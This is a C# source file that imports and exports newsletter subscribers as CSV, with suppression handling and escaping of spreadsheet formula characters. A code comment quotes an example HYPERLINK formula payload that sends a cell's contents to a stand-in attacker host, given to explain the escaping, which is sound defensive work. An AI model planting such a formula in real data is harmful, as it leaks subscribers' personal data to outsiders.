using System.Globalization;
using CsvHelper;
using CsvHelper.Configuration;
using Microsoft.Extensions.Logging;

namespace Syndicate.Subscribers;

/// <summary>
/// Subscribers in and out as CSV, in the shapes listmonk and Mailchimp export: a header row naming
/// the email column in any common way (email, Email Address, e-mail) and optionally a name (name,
/// or First Name and Last Name). A bad line is reported with its number and skipped; an address
/// that unsubscribed earlier is never imported again, and a line whose status column says unsubscribed (our
/// export) or blocklisted (listmonk) is kept as a suppression, not added. A field that a spreadsheet would run as a
/// formula is exported with an apostrophe in front, and the import takes that apostrophe off again.
/// </summary>
internal sealed class SubscriberCsv(SubscriberStore store, TimeProvider time, ILogger<SubscriberCsv> logger)
{
    private static readonly string[] EmailHeaders = ["email", "emailaddress", "e-mail", "e-mailaddress", "mail", "email_address", "emailaddr"];
    private static readonly string[] NameHeaders = ["name", "fullname", "full_name", "displayname"];
    private static readonly string[] FirstNameHeaders = ["firstname", "first_name", "fname", "givenname"];
    private static readonly string[] LastNameHeaders = ["lastname", "last_name", "lname", "surname", "familyname"];
    private static readonly string[] StatusHeaders = ["status"];

    // A status column that says the address left (Syndicate's export: unsubscribed; listmonk: blocklisted) keeps it a suppression.
    private static readonly string[] LeftStatuses = ["unsubscribed", "blocklisted"];

    // A spreadsheet opening a CSV file runs a cell that starts with one of these as a formula (or a DDE command): a name such as
    // =HYPERLINK("http://evil.example/?x="&A2,"Click") typed into the subscribe form would be live in the operator's spreadsheet.
    private static readonly char[] FormulaStarts = ['=', '+', '-', '@', '\t', '\r'];

    // Spreadsheets show a cell that starts with an apostrophe as the text after it.
    private const char FormulaEscape = '\'';

    public async Task<ImportReport> ImportAsync(TextReader reader, string sourceName, bool confirmed, IProgress<int>? progress,
        CancellationToken cancellationToken)
    {
        var configuration = new CsvConfiguration(CultureInfo.InvariantCulture)
        {
            DetectDelimiter = true,
            BadDataFound = null,
            MissingFieldFound = null,
            IgnoreBlankLines = true,
            TrimOptions = TrimOptions.Trim,
        };
        using var csv = new CsvReader(reader, configuration);
        if (!await csv.ReadAsync() || !csv.ReadHeader() || csv.HeaderRecord is not { } header)
        {
            return ImportReport.Failed("the file is empty; it needs a header row such as: email,name");
        }

        var emailColumn = Find(header, EmailHeaders);
        if (emailColumn < 0)
        {
            return ImportReport.Failed($"no email column in the header row ({string.Join(", ", header)}); name one column email, Email Address or e-mail");
        }

        var nameColumn = Find(header, NameHeaders);
        var firstColumn = Find(header, FirstNameHeaders);
        var lastColumn = Find(header, LastNameHeaders);
        var statusColumn = Find(header, StatusHeaders);

        var report = new ImportReport();
        var status = confirmed ? SubscriberStatus.Active : SubscriberStatus.Pending;
        var now = time.GetUtcNow();
        await using var connection = await store.OpenAsync(cancellationToken);
        var transaction = await connection.BeginTransactionAsync(cancellationToken);
        try
        {
            var seen = new HashSet<string>(StringComparer.Ordinal);
            // Rows written since the start (for batch commits), and rows read, invalid and repeated ones included (for progress).
            var rows = 0;
            var read = 0;
            while (await csv.ReadAsync())
            {
                cancellationToken.ThrowIfCancellationRequested();
                var line = csv.Parser.RawRow;
                var email = Unescape(csv.GetField(emailColumn));
                if (string.IsNullOrWhiteSpace(email) && csv.Parser.Record?.All(string.IsNullOrWhiteSpace) == true)
                {
                    continue;
                }

                if (++read % 1000 == 0)
                {
                    progress?.Report(read);
                }

                if (!EmailAddressRule.TryNormalize(email, out var address, out var error))
                {
                    report.Invalid.Add((line, error));
                    continue;
                }

                var name = nameColumn >= 0
                    ? Unescape(csv.GetField(nameColumn))
                    : string.Join(' ', new[] { firstColumn, lastColumn }.Where(c => c >= 0).Select(c => Unescape(csv.GetField(c))).Where(s => !string.IsNullOrWhiteSpace(s)));
                if (!seen.Add(EmailAddressRule.Key(address)))
                {
                    report.Known++;
                    continue;
                }

                var left = statusColumn >= 0 && LeftStatuses.Contains(csv.GetField(statusColumn)?.Trim().ToLowerInvariant());
                var added = await SubscriberStore.TryAddAsync(connection, transaction, address, SubscriptionService.CleanName(name),
                    left ? SubscriberStatus.Unsubscribed : status, "import", now);
                if (added is not null)
                {
                    if (left)
                    {
                        report.Suppressed++;
                    }
                    else
                    {
                        report.Added++;
                    }
                }
                else if (await IsUnsubscribedAsync(connection, transaction, address))
                {
                    report.Suppressed++;
                }
                else
                {
                    report.Known++;
                }

                if (++rows % 1000 == 0)
                {
                    // Commit in batches: a long import does not hold the write lock the service needs.
                    await transaction.CommitAsync(cancellationToken);
                    await transaction.DisposeAsync();
                    transaction = await connection.BeginTransactionAsync(cancellationToken);
                }
            }

            await transaction.CommitAsync(cancellationToken);
            progress?.Report(read);
        }
        finally
        {
            await transaction.DisposeAsync();
        }

        SubscribersLog.Imported(logger, sourceName, report.Added, report.Known, report.Suppressed, report.Invalid.Count);
        return report;
    }

    public async Task<int> ExportAsync(TextWriter writer, CancellationToken cancellationToken)
    {
        var subscribers = await store.ListAsync(null, cancellationToken);
        var configuration = new CsvConfiguration(CultureInfo.InvariantCulture)
        {
            // A field that starts with a formula character is written with the apostrophe in front (and quoted).
            InjectionOptions = InjectionOptions.Escape,
            InjectionCharacters = FormulaStarts,
            InjectionEscapeCharacter = FormulaEscape,
        };
        await using var csv = new CsvWriter(writer, configuration, leaveOpen: true);
        foreach (var heading in (string[])["email", "name", "status", "created_at", "confirmed_at", "unsubscribed_at"])
        {
            csv.WriteField(heading);
        }

        await csv.NextRecordAsync();
        foreach (var subscriber in subscribers)
        {
            csv.WriteField(EscapeApostrophes(subscriber.Email));
            csv.WriteField(EscapeApostrophes(subscriber.Name));
            csv.WriteField(SubscriberStore.StatusText(subscriber.Status));
            csv.WriteField(Iso(subscriber.CreatedAt));
            csv.WriteField(Iso(subscriber.ConfirmedAt));
            csv.WriteField(Iso(subscriber.UnsubscribedAt));
            await csv.NextRecordAsync();
        }

        await csv.FlushAsync();
        return subscribers.Count;
    }

    /// <summary>
    /// A value that already looks escaped (apostrophes, then a formula character) gets one more apostrophe on export, so
    /// that the import, which takes one off, gives it back unchanged: '=x is exported as ''=x.
    /// </summary>
    private static string EscapeApostrophes(string value) => LooksEscaped(value) ? FormulaEscape + value : value;

    /// <summary>Takes off the apostrophe the export puts before a formula character (or before an apostrophe it doubled).</summary>
    private static string? Unescape(string? value) => value is not null && LooksEscaped(value) ? value[1..] : value;

    private static bool LooksEscaped(string value)
    {
        var i = 0;
        while (i < value.Length && value[i] == FormulaEscape)
        {
            i++;
        }

        return i > 0 && i < value.Length && FormulaStarts.Contains(value[i]);
    }

    private static async Task<bool> IsUnsubscribedAsync(System.Data.Common.DbConnection connection, System.Data.Common.DbTransaction transaction, string address)
    {
        var status = await Dapper.SqlMapper.ExecuteScalarAsync<string?>(connection,
            "SELECT status FROM subscribers WHERE email_key = @key", new { key = EmailAddressRule.Key(address) }, transaction);
        return status == "unsubscribed";
    }

    private static int Find(string[] header, string[] names)
    {
        for (var i = 0; i < header.Length; i++)
        {
            var normalized = header[i].Trim().Trim('\uFEFF').Replace(" ", "", StringComparison.Ordinal).ToLowerInvariant();
            if (names.Contains(normalized))
            {
                return i;
            }
        }

        return -1;
    }

    private static string Iso(DateTimeOffset? value) =>
        value?.UtcDateTime.ToString("yyyy-MM-dd'T'HH:mm:ss'Z'", CultureInfo.InvariantCulture) ?? "";
}

/// <summary>What an import did, with the line number and reason of every line left out as invalid.</summary>
internal sealed class ImportReport
{
    public int Added { get; set; }

    public int Known { get; set; }

    public int Suppressed { get; set; }

    public List<(long Line, string Reason)> Invalid { get; } = [];

    public string? Error { get; private init; }

    public static ImportReport Failed(string error) => new() { Error = error };
}
